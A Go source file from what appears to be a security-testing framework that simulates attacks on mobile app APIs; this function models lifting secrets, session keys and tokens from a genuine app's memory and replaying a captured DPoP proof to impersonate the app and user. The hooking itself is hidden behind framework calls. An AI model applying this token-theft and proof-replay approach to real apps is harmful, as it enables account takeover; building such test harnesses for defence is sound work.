package appside

import (
	"context"
	"errors"
	"slices"

	"keyladder/mobileclient/attacker/attack"
	"keyladder/mobileclient/attacker/loot"
	"keyladder/stages/catalog"
	"keyladder/stages/mechanism/dpop"
	"keyladder/stages/protect"
)

// TokenLift takes everything out of the memory of the genuine app while its user, the
// attacker, is signed in: the static secrets, the live session key or access token, and how
// the installation is registered, where it is. With all of that in it, a program of one's own
// is, to the API, that app on that phone with that user. Where the tokens are bound to a key, that is not in
// the memory: a key of our own has to do, and the proofs that the app has made with it.
//
//keyladder:code attack-token-lift
func TokenLift(ctx context.Context, g *attack.Given) (attack.Result, error) {
	phone, found, err := g.Hook(ctx)
	if err != nil {
		return attack.Stopped(err)
	}
	defer phone.Close()
	tries, err := g.Identities(slices.Concat(found.OfApp(), found.OfUser())...)
	if err != nil {
		return attack.Result{}, err
	}
	if len(tries) == 0 || len(found.Sessions)+len(found.Tokens) == 0 {
		return attack.Result{Check: catalog.CheckHidden, Obstacle: "nothing that stands for the user, or no secret, was found in the app's memory"}, nil
	}
	if g.Stage.Call.Devices != catalog.NoDevices && len(found.Installations) == 0 {
		return attack.Result{}, errors.New("the app's requests in its memory name no installation")
	}
	if g.Stage.Call.Sender == catalog.DPoPProofs {
		if err := againProven(ctx, g, tries[0], found.Proofs); err != nil {
			return attack.Result{}, err
		}
		g.Say("Call with proofs of a key of our own.")
	}
	return attack.RobAs(ctx, g, tries)
}

// againProven makes the call again that the app has made, with the proof that it has made for it: of all its
// proofs, which are each for one call.
func againProven(ctx context.Context, g *attack.Given, as protect.Identity, proofs loot.Proofs) error {
	p, err := attack.NewProgram(g, as)
	if err != nil {
		return err
	}
	defer p.Close()
	call := protect.Call{Path: "/v1/accounts"}
	target, err := p.Caller.URL(call.Path)
	if err != nil {
		return err
	}
	proof := proofs.For(target.String())
	if proof == "" {
		return errors.New("no proof of the call that the app has made was found in its memory")
	}
	call.Spoil.AfterSigning = func(r *protect.Request) { dpop.Set(r.Header, proof) }
	_, err = p.Call(ctx, call)
	var refused *attack.Refusal
	switch {
	case err == nil:
		g.Say("Sent the app's proof for GET %s once more, with its tokens: served. It is good for that call and no other.", call.Path)
	case errors.As(err, &refused):
		g.Say("Sent the app's proof for GET %s once more, with its tokens: %s.", call.Path, refused.Obstacle)
	default:
		return err
	}
	return nil
}
